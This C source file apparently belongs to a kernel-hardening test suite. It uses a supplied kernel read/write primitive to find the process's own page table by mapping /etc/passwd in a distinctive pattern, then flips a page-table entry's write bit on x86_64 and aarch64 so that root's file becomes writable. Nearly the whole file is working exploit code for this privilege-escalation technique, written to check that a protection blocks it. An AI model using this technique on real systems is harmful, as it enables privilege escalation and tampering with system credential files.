/*
 * A kernel write primitive against a page table: /etc/passwd, which this program may read, becomes writable.
 *
 * The table is found as any attacker would find it, who can read what he can write: the program maps one page
 * of the file again and again, at places of its own choice in 2 MiB, which one table covers; then it reads
 * through the direct map until a frame has the same word at just these places.
 */
#include "user/attack/attack.h"

#include <fcntl.h>
#include <stdbool.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/sysinfo.h>
#include <unistd.h>

#define PAGE	 4096ul
#define COVERED	 (2ul << 20) /* by one table */
#define GIB	 (1ul << 30) /* the direct map begins at a multiple of it */
#define PLACES	 8
#define FREE_PLACE 300 /* where nothing is mapped */

static const unsigned places[PLACES] = {7, 8, 61, 128, 130, 255, 301, 499};

/* An entry that lets user mode write; and where the search begins. */
#if defined(__aarch64__)
#define MADE_WRITABLE(entry) ((entry) & ~(1ul << 7)) /* AP[2] */
#define LOWEST(image)	     ((image) & -GIB)	     /* where memory begins, without holes */
#else
#define MADE_WRITABLE(entry) ((entry) | 1ul << 1) /* R/W */
#define LOWEST(image)	     (image)		  /* below it the PC has holes, and no table */
#endif

static volatile uint64_t *
page_at(char *region, unsigned place)
{
	return (volatile uint64_t *)(region + place * PAGE);
}

/* 2 MiB with the file's first page at `places`, and nothing between. */
static char *
map_pattern(int fd)
{
	char *room = mmap(NULL, 2 * COVERED, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), *region;

	if (room == MAP_FAILED)
		give_up("no room");
	munmap(room, 2 * COVERED);
	region = (char *)(((uint64_t)room + COVERED - 1) & -COVERED);
	for (unsigned i = 0; i < PLACES; i++) {
		if (mmap(region + places[i] * PAGE, PAGE, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, 0) == MAP_FAILED)
			give_up("/etc/passwd");
		(void)*page_at(region, places[i]);
	}
	return region;
}

static bool
is_the_table(uint64_t at)
{
	uint64_t first = vuln_read(at + 8 * places[0]);

	if (first == 0 || vuln_read(at + 8 * FREE_PLACE) != 0)
		return false;
	for (unsigned i = 1; i < PLACES; i++) {
		if (vuln_read(at + 8 * places[i]) != first)
			return false;
	}
	return true;
}

/* The kernel's image lies at the lower end of memory. */
static uint64_t
find_table(void)
{
	uint64_t image = vuln_places().victim_alias & -PAGE, end;
	struct sysinfo info;

	sysinfo(&info);
	end = (image & -GIB) + info.totalram;
	for (uint64_t at = LOWEST(image); at < end; at += PAGE) {
		if (is_the_table(at))
			return at;
	}
	give_up("the table was not found");
}

static void
run(void)
{
	struct vuln_places p = vuln_places();
	int fd = open("/etc/passwd", O_RDONLY | O_CLOEXEC);
	uint64_t table;
	char *region;

	if (fd < 0 || setuid(1000))
		give_up("/etc/passwd");
	step("legal: a variable changes, the file is read");
	vuln_write(p.scratch, 7);
	if (vuln_read(p.scratch) != 7)
		give_up("the legal act failed");
	region = map_pattern(fd);
	table = find_table();
	step("the program's own page table is found, and read");

	step("illegal: an entry of it becomes one that may be written");
	attack_address = (uint64_t)page_at(region, FREE_PLACE);
	vuln_write(table + 8 * FREE_PLACE, MADE_WRITABLE(vuln_read(table + 8 * places[0])));
	*page_at(region, FREE_PLACE) = MAGIC;
}

ATTACK(ro_pgtable) = {
	.name = "ro-pgtable",
	.what = "a kernel write flips a bit of a page-table entry: a file of root's is written",
	.needs_off_x86_64 = "ro-pgtable",
	.needs_off_aarch64 = "ro-pgtable",
	.run = run,
};
